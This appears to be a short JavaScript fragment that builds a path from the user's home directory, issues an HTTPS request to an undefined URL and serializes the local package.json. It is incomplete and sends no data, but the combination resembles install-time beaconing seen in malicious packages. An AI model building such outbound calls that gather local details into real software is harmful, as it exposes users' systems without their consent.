const d = path.join(os.homedir(), __dirname); https.get(u); JSON.stringify(require("./package.json"))
